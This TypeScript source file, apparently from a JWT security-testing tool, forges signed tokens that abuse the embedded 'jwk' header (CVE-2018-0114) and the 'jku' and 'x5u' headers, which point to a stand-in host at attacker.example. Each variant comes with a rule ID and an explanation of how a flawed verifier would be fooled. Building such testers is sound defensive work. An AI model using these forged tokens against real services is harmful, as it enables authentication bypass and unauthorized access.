// Variants signed with a key made here: the token's own `jwk` header (CVE-2018-0114), and `jku`
// / `x5u` pointing at a URL where an attacker would host that key. The URL is never fetched.
import { jwsAlgorithmOf } from '../algorithms';
import { generateKey } from '../keys/generate';
import type { JwkObject, Variant } from '../report';
import { signatureOf } from '../sign/signature';
import type { PublicJwk } from '../keys/spki';
import { compact, headerWith, signingInput, type ForgeInput } from './input';

export const DEFAULT_ATTACKER_URL = 'https://attacker.example/jwks.json';

interface FreshKey {
  alg: string;
  publicJwk: JwkObject;
  privateJwk: PublicJwk;
}

/** A fresh key for the token's own alg when it is asymmetric (RS256 stays RS256), else ES256. */
async function freshKey(tokenAlg: string): Promise<FreshKey | undefined> {
  const own = jwsAlgorithmOf(tokenAlg);
  const alg = own?.asymmetric && own.can.sign ? tokenAlg : 'ES256';
  const made = await generateKey({ alg });
  if (!made.ok || !made.bundle.publicJwk || !made.bundle.privateJwk) return undefined;
  return { alg, publicJwk: made.bundle.publicJwk, privateJwk: made.bundle.privateJwk };
}

async function signed(input: ForgeInput, key: FreshKey, changes: Record<string, unknown>): Promise<string> {
  const header = headerWith(input, { alg: key.alg, ...changes });
  const info = jwsAlgorithmOf(key.alg)!;
  const signature = await signatureOf(info, { kind: 'private', jwk: key.privateJwk }, signingInput(input, header));
  return compact(input, header, signature);
}

/** embedded-jwk, jku and x5u, all signed with one fresh key; none when no key could be made. */
export async function freshKeyVariants(input: ForgeInput, url: string): Promise<Variant[]> {
  const key = await freshKey(input.alg);
  if (!key) return [];
  const { publicJwk } = key;
  const kid = publicJwk.kid;
  return [
    {
      attack: 'embedded-jwk',
      token: await signed(input, key, { jwk: publicJwk }),
      rule: 'jwk-embedded',
      explanation: 'A verifier that checks the signature with the key in the token\'s own "jwk" header accepts claims the attacker signed with a key of their own.',
      publicJwk,
    },
    {
      attack: 'jku',
      token: await signed(input, key, { jku: url, kid }),
      rule: 'jku-present',
      explanation: `A verifier that fetches keys from the token's "jku" URL would load the attacker's key set from ${url} and accept this token.`,
      publicJwk,
    },
    {
      attack: 'x5u',
      token: await signed(input, key, { x5u: url, kid }),
      rule: 'x5u-present',
      explanation: `A verifier that fetches the certificate from the token's "x5u" URL would load the attacker's certificate from ${url} and accept this token.`,
      publicJwk,
    },
  ];
}
